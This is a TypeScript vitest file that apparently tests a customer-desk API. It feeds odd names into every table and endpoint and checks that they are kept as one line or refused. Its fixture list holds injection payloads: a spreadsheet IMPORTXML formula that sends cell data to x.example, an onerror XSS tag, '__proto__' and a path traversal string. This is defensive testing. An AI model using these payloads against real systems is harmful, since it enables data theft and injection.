// Names with line breaks, lone surrogates, formulas and the like at every door that takes one: kept as one line of
// text, refused at the cell or by a 4xx, and never a fault of ours.
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { ChangesAnswer } from '../../../functions/src/contract/contract.ts';
import { CALL, FEEDBACK } from '../../fixtures/core/desk-fixture.ts';
import { isSaved, person, StaffDoors } from './staff-doors.ts';

let staff: StaffDoors;
beforeAll(async () => {
  staff = await StaffDoors.open('doors-odd-names');
}, 60_000);
afterAll(() => staff.close());

const NAMES: readonly (readonly [what: string, name: string])[] = [
  ['a line break', '李\n小明'],
  ['a return', '李\r\n小明'],
  ['a line separator', '李\u2028小明'],
  ['a blank of no width', '李\u200b小明'],
  ['a null', '李\u0000小明'],
  ['half of a pair', '\ud800'],
  ['the other half', '李\udc00小明'],
  ['a turn of direction', '李\u202e明小'],
  ['a formula', '=IMPORTXML("https://x.example/?"&A1)'],
  ['a sum', '@SUM(A1)'],
  ['a number with a sign', '+1'],
  ['a tag', '<img src=x onerror=alert(1)>'],
  ['a name of the language', '__proto__'],
  ['a path', '../../x'],
  ['nothing but blanks', ' \t '],
];
/** What no name has that is kept. */
const BREAKS = ['\n', '\r', '\u2028', '\u2029', '\u0000'];
const KEY = 'aaaaaaaa-0000-4000-8000-000000000001';

/** Tables with a column that names somebody or something, and what else a row of them needs. */
const CELLS = {
  hotline: (customer: string) => ({ ...CALL, customer }),
  feedback: (customer: string) => ({ ...FEEDBACK, customer }),
  customers: (person: string) => ({ customerNumber: 'C901', customer: 'XX科技有限公司', person }),
  people: (name: string) => person(name, 'odd', '客服部', '客服人员'),
  settings: (name: string) => ({ category: '产品', name, value: '12' }),
} as const;

const blank = (cells: object) => Object.fromEntries(Object.keys(cells).map(key => [key, null]));

describe.each(NAMES)('%s', (_, name) => {
  test.each(Object.entries(CELLS))(
    'in a row of %s is one line of text, or is refused',
    async (table, cellsOf) => {
      const cells = cellsOf(name);
      const sent = await staff.send(table, cells);
      expect(sent.status).toBe(200);
      const { text } = await staff.call('owner', '/changes?since=0');
      const shown = (JSON.parse(text) as ChangesAnswer).rows.find(({ key }) => key === sent.key);
      expect(shown !== undefined).toBe(isSaved(sent));
      const kept = JSON.stringify([sent.answer, shown]);
      expect(kept.isWellFormed() && !/\\u0000|\\ud[89a-f]/i.test(kept)).toBe(true);
      const stored = (await staff.doors.place.ports.store.desk('desk-1'))?.rows[sent.key]?.cells ?? {};
      const column = Object.keys(cells).find(key => (cells as Record<string, unknown>)[key] === name) ?? '';
      for (const cell of [shown?.cells[column], stored[column]])
        expect(BREAKS.filter(each => String(cell ?? '').includes(each))).toEqual([]);
      // Whoever is called so goes again: the next one would have his mail.
      const isPerson = table === 'people' && isSaved(sent);
      if (isPerson) await staff.send(table, blank(cells), { row: sent });
      expect(staff.doors.faults).toEqual([]);
    },
  );

  const bodies: readonly (readonly [path: string, body: object])[] = [
    ['/search', { text: name }],
    ['/owner', { mail: name }],
    ['/members', { nonce: name }],
    ['/records', { keys: [name] }],
    ['/held', { cells: [{ key: KEY, column: name, text: name }] }],
    ['/retired', { after: name, keys: [] }],
    ['/customer/export', { number: name }],
    ['/customer/export', { number: '13812345678', after: name }],
    ['/customer/correct', { number: '13899990000', contact: name }],
    ['/customer/correct', { number: '13899990000', name: { from: name, to: name } }],
    ['/customer/erase', { number: name }],
    [`/records/${KEY}/cards/forecast`, { at: name }],
    [`/records/${encodeURIComponent(name.toWellFormed())}/cards/history`, {}],
    [`/tables/${encodeURIComponent(name.toWellFormed())}/rows`, { rows: [] }],
    ['/tables/hotline/rows', { editor: name, rows: [{ key: name, base: name, edited: [name], cells: {} }] }],
  ];
  test('at every other door is found nowhere, or refused by a 4xx, and nothing is written', async () => {
    const before = await staff.doors.everything();
    const faulty: string[] = [];
    for (const [path, body] of bodies) {
      const { status } = await staff.call('owner', path, body);
      if (status !== 200 && (status < 400 || status >= 500)) faulty.push(`${path} ${status}`);
    }
    expect(faulty).toEqual([]);
    expect(await staff.doors.everything()).toEqual(before);
    expect(staff.doors.faults).toEqual([]);
  });
});
